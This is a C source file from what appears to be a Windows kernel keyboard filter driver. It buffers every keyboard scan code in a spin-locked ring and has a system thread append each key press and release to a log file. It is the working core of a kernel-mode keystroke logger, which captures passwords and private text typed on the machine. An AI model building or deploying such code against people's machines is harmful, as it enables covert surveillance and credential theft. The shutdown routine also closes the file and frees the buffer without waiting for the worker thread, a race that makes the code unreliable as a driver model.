/*
 * logger.c - ring buffer + worker thread that writes the log file
 */
#include "kbdlog.h"

KL_LOGGER g_Log;

static KSTART_ROUTINE KlLoggerThread;

/* called from the completion routine, IRQL <= DISPATCH_LEVEL */
VOID KlPushKeys(_In_reads_(Count) PKEYBOARD_INPUT_DATA Keys, _In_ ULONG Count)
{
    KIRQL irql;
    ULONG i;
    ULONG next;

    KeAcquireSpinLock(&g_Log.RingLock, &irql);
    if (g_Log.Ring == NULL) {
        /* logger not started yet */
        g_Log.Dropped += Count;
        KeReleaseSpinLock(&g_Log.RingLock, irql);
        return;
    }
    for (i = 0; i < Count; i++) {
        next = (g_Log.Head + 1) % KL_RING_SIZE;
        if (next == g_Log.Tail) {
            g_Log.Dropped++;
            continue;
        }
        g_Log.Ring[g_Log.Head].MakeCode = Keys[i].MakeCode;
        g_Log.Ring[g_Log.Head].Flags = Keys[i].Flags;
        g_Log.Head = next;
    }
    KeReleaseSpinLock(&g_Log.RingLock, irql);

    KeSetEvent(&g_Log.WakeEvent, IO_NO_INCREMENT, FALSE);
}

/* drain the ring into the file, PASSIVE_LEVEL only */
static VOID KlFlush(VOID)
{
    KL_KEY batch[64];
    ULONG n;
    ULONG i;
    KIRQL irql;
    CHAR line[48];
    size_t len;
    IO_STATUS_BLOCK iosb;

    for (;;) {
        n = 0;
        KeAcquireSpinLock(&g_Log.RingLock, &irql);
        while (g_Log.Tail != g_Log.Head && n < ARRAYSIZE(batch)) {
            batch[n++] = g_Log.Ring[g_Log.Tail];
            g_Log.Tail = (g_Log.Tail + 1) % KL_RING_SIZE;
        }
        KeReleaseSpinLock(&g_Log.RingLock, irql);

        if (n == 0) {
            break;
        }

        for (i = 0; i < n; i++) {
            if (!NT_SUCCESS(RtlStringCbPrintfA(line, sizeof(line), "%04X %s\r\n",
                                               batch[i].MakeCode,
                                               (batch[i].Flags & KEY_BREAK) ? "up" : "down"))) {
                continue;
            }
            if (!NT_SUCCESS(RtlStringCbLengthA(line, sizeof(line), &len))) {
                continue;
            }
            (VOID)ZwWriteFile(g_Log.File, NULL, NULL, NULL, &iosb, line, (ULONG)len, NULL, NULL);
        }
    }
}

static VOID KlLoggerThread(PVOID Context)
{
    LARGE_INTEGER timeout;

    UNREFERENCED_PARAMETER(Context);

    timeout.QuadPart = -10LL * 1000 * 1000;     /* 1 s */

    for (;;) {
        KeWaitForSingleObject(&g_Log.WakeEvent, Executive, KernelMode, FALSE, &timeout);
        KlFlush();
        if (g_Log.StopRequested) {
            break;
        }
    }

    PsTerminateSystemThread(STATUS_SUCCESS);
}

/* take the ring away from KlPushKeys before freeing it */
static VOID KlReleaseRing(VOID)
{
    KIRQL irql;
    PKL_KEY ring;

    KeAcquireSpinLock(&g_Log.RingLock, &irql);
    ring = g_Log.Ring;
    g_Log.Ring = NULL;
    KeReleaseSpinLock(&g_Log.RingLock, irql);

    if (ring != NULL) {
        ExFreePoolWithTag(ring, KL_TAG);
    }
}

/* no allocations, just makes g_Log usable by KlPushKeys */
VOID KlInitLog(VOID)
{
    RtlZeroMemory(&g_Log, sizeof(g_Log));
    KeInitializeSpinLock(&g_Log.RingLock);
    KeInitializeEvent(&g_Log.WakeEvent, SynchronizationEvent, FALSE);
}

NTSTATUS KlStartLogger(VOID)
{
    NTSTATUS status;
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;
    UNICODE_STRING path = RTL_CONSTANT_STRING(KL_LOG_PATH);
    HANDLE threadHandle;
    PKL_KEY ring;
    KIRQL irql;

    ring = (PKL_KEY)ExAllocatePoolWithTag(NonPagedPoolNx, KL_RING_SIZE * sizeof(KL_KEY), KL_TAG);
    if (ring == NULL) {
        return STATUS_INSUFFICIENT_RESOURCES;
    }
    KeAcquireSpinLock(&g_Log.RingLock, &irql);
    g_Log.Ring = ring;
    KeReleaseSpinLock(&g_Log.RingLock, irql);

    InitializeObjectAttributes(&oa, &path, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);
    status = ZwCreateFile(&g_Log.File,
                          FILE_APPEND_DATA | SYNCHRONIZE,
                          &oa,
                          &iosb,
                          NULL,
                          FILE_ATTRIBUTE_NORMAL,
                          FILE_SHARE_READ,
                          FILE_OPEN_IF,
                          FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE,
                          NULL,
                          0);
    if (!NT_SUCCESS(status)) {
        KL_PRINT("can't open log file 0x%x\n", status);
        KlReleaseRing();
        return status;
    }

    InitializeObjectAttributes(&oa, NULL, OBJ_KERNEL_HANDLE, NULL, NULL);
    status = PsCreateSystemThread(&threadHandle, THREAD_ALL_ACCESS, &oa, NULL, NULL, KlLoggerThread, NULL);
    if (!NT_SUCCESS(status)) {
        ZwClose(g_Log.File);
        g_Log.File = NULL;
        KlReleaseRing();
        return status;
    }

    status = ObReferenceObjectByHandle(threadHandle, SYNCHRONIZE, *PsThreadType, KernelMode,
                                       (PVOID *)&g_Log.Thread, NULL);
    if (!NT_SUCCESS(status)) {
        /* could not get the object, stop the thread through the handle */
        InterlockedExchange(&g_Log.StopRequested, 1);
        KeSetEvent(&g_Log.WakeEvent, IO_NO_INCREMENT, FALSE);
        ZwWaitForSingleObject(threadHandle, FALSE, NULL);
        ZwClose(threadHandle);
        ZwClose(g_Log.File);
        g_Log.File = NULL;
        KlReleaseRing();
        return status;
    }
    ZwClose(threadHandle);

    KL_PRINT("logging to %wZ\n", &path);
    return STATUS_SUCCESS;
}

VOID KlStopLogger(VOID)
{
    /* ask the thread to quit */
    InterlockedExchange(&g_Log.StopRequested, 1);
    KeSetEvent(&g_Log.WakeEvent, IO_NO_INCREMENT, FALSE);

    if (g_Log.File != NULL) {
        ZwClose(g_Log.File);
        g_Log.File = NULL;
    }
    KlReleaseRing();

    if (g_Log.Thread != NULL) {
        ObDereferenceObject(g_Log.Thread);
        g_Log.Thread = NULL;
    }

    KL_PRINT("logger stopped, %lu keys dropped\n", g_Log.Dropped);
}
